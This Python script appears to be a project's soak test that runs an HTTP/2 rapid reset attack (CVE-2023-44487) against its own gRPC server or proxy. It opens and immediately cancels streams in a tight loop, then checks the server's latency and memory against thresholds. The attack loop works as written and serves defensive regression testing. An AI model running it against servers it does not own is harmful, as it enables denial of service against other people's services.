#!/usr/bin/env python3
"""HTTP/2 rapid reset (CVE-2023-44487) against mha_server or a proxy in front of it: one connection at a time opens
MultiHeadAttention streams and cancels each at once, as fast as it can, for --seconds (a new connection whenever the
other side closes one). Meanwhile a GetServerInfo call straight to the server (--probe) each second reports its
latency, and the server's RSS is read from /proc/PID/status.

    python3 tests/soak/rapid_reset.py --attack 127.0.0.1:PORT --pid PID --seconds 10     # the server itself
    deploy/proxy-test.sh                                                                 # through the manifests' Envoy

With --max_rss_growth_mib and --max_probe_s it exits 1 when the server's RSS grew more, or a probe took longer or
failed. Needs python3-h2 and python3-grpcio (Debian packages). docs/SECURITY.md has the figures.
"""

import argparse
import os
import socket
import ssl
import sys
import tempfile
import threading
import time

import grpc
import h2.config
import h2.connection
import h2.errors
import h2.exceptions

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "..", "client", "python"))
import mhaclient  # noqa: E402


def rss_mib(pid):
    with open("/proc/%d/status" % pid) as f:
        return next(int(line.split()[1]) // 1024 for line in f if line.startswith("VmRSS:"))


def connect(address, tls):
    host, port = address.rsplit(":", 1)
    sock = socket.create_connection((host, int(port)), timeout=10)
    return tls.wrap_socket(sock, server_hostname="localhost") if tls else sock


def one_connection(address, tls, stop, opened):
    sock = connect(address, tls)
    conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True, header_encoding="utf-8"))
    conn.initiate_connection()
    sock.sendall(conn.data_to_send())
    sock.setblocking(False)
    headers = [(":method", "POST"), (":scheme", "https" if tls else "http"), (":authority", "localhost"),
               (":path", "/mha.v1.Attention/MultiHeadAttention"), ("content-type", "application/grpc"),
               ("te", "trailers")]
    with sock:
        while not stop.is_set():
            for _ in range(100):
                stream = conn.get_next_available_stream_id()
                conn.send_headers(stream, headers)
                conn.reset_stream(stream, h2.errors.ErrorCodes.CANCEL)
                opened[0] += 1
            try:
                sock.setblocking(True)
                sock.sendall(conn.data_to_send())
                sock.setblocking(False)
                while True:
                    received = sock.recv(1 << 16)
                    if not received:
                        return  # closed by the other side
                    conn.receive_data(received)
            except (BlockingIOError, ssl.SSLWantReadError):
                pass
            except (OSError, h2.exceptions.ProtocolError):
                return


def attack(address, tls, stop, opened, connections):
    while not stop.is_set():
        connections[0] += 1
        try:
            one_connection(address, tls, stop, opened)
        except OSError:
            time.sleep(0.01)


def main():
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--attack", required=True, help="HOST:PORT the streams go to")
    parser.add_argument("--probe", help="HOST:PORT of the server itself, plaintext (default: --attack)")
    parser.add_argument("--pid", type=int, required=True, help="the server's, for its RSS")
    parser.add_argument("--seconds", type=float, default=10)
    parser.add_argument("--tls_ca", help="attack over mutual TLS: the CA, and the client's certificate and key")
    parser.add_argument("--tls_cert")
    parser.add_argument("--tls_key")
    parser.add_argument("--token", help="bearer token for the probe")
    parser.add_argument("--max_rss_growth_mib", type=float)
    parser.add_argument("--max_probe_s", type=float)
    args = parser.parse_args()
    stubs = tempfile.TemporaryDirectory(prefix="mha-stubs-")  # removed at exit; the imports are loaded by then
    sys.path.insert(0, mhaclient.generate_stubs(stubs.name))
    from mha.v1 import attention_pb2 as pb
    from mha.v1 import attention_pb2_grpc as pbg

    tls = None
    if args.tls_ca:
        tls = ssl.create_default_context(cafile=args.tls_ca)
        tls.load_cert_chain(args.tls_cert, args.tls_key)
        tls.set_alpn_protocols(["h2"])
    stop, opened, connections = threading.Event(), [0], [0]
    thread = threading.Thread(target=attack, args=(args.attack, tls, stop, opened, connections))
    before = rss_mib(args.pid)
    thread.start()
    worst, peak = 0.0, before
    metadata = [("authorization", "Bearer " + args.token)] if args.token else []
    with grpc.insecure_channel(args.probe or args.attack) as channel:
        stub = pbg.AttentionStub(channel)
        start = time.monotonic()
        while time.monotonic() - start < args.seconds:
            began = time.monotonic()
            try:
                stub.GetServerInfo(pb.GetServerInfoRequest(), timeout=10, metadata=metadata)
                took = time.monotonic() - began
                latency = "%.3f s" % took
            except grpc.RpcError as error:
                took, latency = float("inf"), str(error.code())
            worst, peak = max(worst, took), max(peak, rss_mib(args.pid))
            print("t=%.0f s  rss=%d MiB  streams=%d  connections=%d  GetServerInfo %s" % (
                time.monotonic() - start, rss_mib(args.pid), opened[0], connections[0], latency), flush=True)
            time.sleep(1)
    stop.set()
    thread.join()
    print("rss %d -> peak %d MiB; worst GetServerInfo %s; %d streams on %d connections" % (
        before, peak, "failed" if worst == float("inf") else "%.3f s" % worst, opened[0], connections[0]))
    failed = False
    if args.max_rss_growth_mib is not None and peak - before > args.max_rss_growth_mib:
        print("FAIL: the server's RSS grew %d MiB, over %g" % (peak - before, args.max_rss_growth_mib))
        failed = True
    if args.max_probe_s is not None and worst > args.max_probe_s:
        print("FAIL: a GetServerInfo call took over %g s (or failed)" % args.max_probe_s)
        failed = True
    return 1 if failed else 0


if __name__ == "__main__":
    sys.exit(main())
